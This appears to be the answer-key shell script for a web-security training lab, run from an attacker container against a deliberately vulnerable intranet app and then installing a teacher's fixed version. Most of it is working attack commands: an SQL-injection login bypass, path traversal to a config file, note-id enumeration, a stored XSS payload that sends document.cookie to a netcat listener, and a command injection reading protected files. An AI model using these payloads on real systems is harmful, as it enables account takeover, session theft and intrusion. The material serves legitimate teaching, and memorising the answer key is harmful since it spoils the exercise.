#!/bin/sh
# The solution: solve.sh [INSTANCE], from the folder of the lab. It does what a student would.
set -eu
lab=$(dirname "$0")/.. instance=${1:-default}

on() {
  labctl exec --instance "$instance" "$lab" "$@"
}

# 1 to 5: use each flaw; what is caught is printed at the end
on attacker -- sh -ec '
  site=http://10.50.0.10:8080
  flag() { grep -o "LAB{[a-z0-9]*}"; }
  : >/root/flags.txt

  # 1: the password is not asked for any more
  curl -sS -c /tmp/admin --data-urlencode "name=admin'"'"' -- " -d password=x "$site/login" >/dev/null
  curl -sS -b /tmp/admin "$site/admin" | flag >>/root/flags.txt

  # 2: ../app.py says where its settings are
  curl -sS "$site/download?name=../config.ini" | flag >>/root/flags.txt

  # 3: the number of a note is all that is asked for
  curl -sS -c /tmp/student -d name=student -d password=student "$site/login" >/dev/null
  for number in 1 2 3 4 5; do curl -sS -b /tmp/student "$site/note?id=$number"; done | flag >>/root/flags.txt

  # 4: Paula reads, and her browser tells
  timeout 100 nc -l 8000 >/tmp/caught </dev/null & listener=$!
  curl -sS --data-urlencode "text=<script>new Image().src = \"http://10.50.0.66:8000/?\" + document.cookie</script>" \
    "$site/" >/dev/null
  wait "$listener"
  flag </tmp/caught >>/root/flags.txt

  # 5: what follows the address is a command
  curl -sS -b /tmp/student -G --data-urlencode "host=localhost; cat /srv/intranet/safe/*" "$site/ping" |
    flag >>/root/flags.txt
  cat /root/flags.txt'

# 6 to 10: the mended application
on server -- sh -ec 'cat >/srv/intranet/app.py; systemctl restart intranet' <"$lab/teacher/app.py"
